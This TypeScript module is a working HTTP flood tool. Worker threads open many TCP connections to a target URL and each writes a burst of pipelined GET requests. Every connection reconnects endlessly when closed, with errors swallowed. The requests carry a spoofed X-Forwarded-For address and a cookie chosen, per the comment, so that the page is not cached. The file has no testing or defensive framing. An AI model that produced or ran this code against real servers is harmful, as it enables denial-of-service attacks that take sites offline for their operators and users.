import { connect } from "node:net";
import { workerData } from "node:worker_threads";

export interface Flood {
  url: string;
  connections: number;
  /** Sent in one piece on each connection, and again when it has closed. */
  requests: number;
}

/** For a page that nothing keeps, because the cookie could be a notice for one person. */
const request = "GET / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 192.0.2.1\r\nCookie: notice=x\r\n\r\n";

/** Sends until its thread is ended. */
function flood({ hostname, port }: URL, requests: number): void {
  const socket = connect(Number(port), hostname);
  // A connection may be reset, which is no failure here.
  socket.on("error", () => undefined).once("close", () => flood(new URL(url), requests));
  socket.write(request.repeat(requests - 1) + request.replace("Cookie", "Connection: close\r\nCookie"));
  socket.resume();
}

const { url, connections, requests } = workerData as Flood;
for (let count = 0; count < connections; count++) flood(new URL(url), requests);
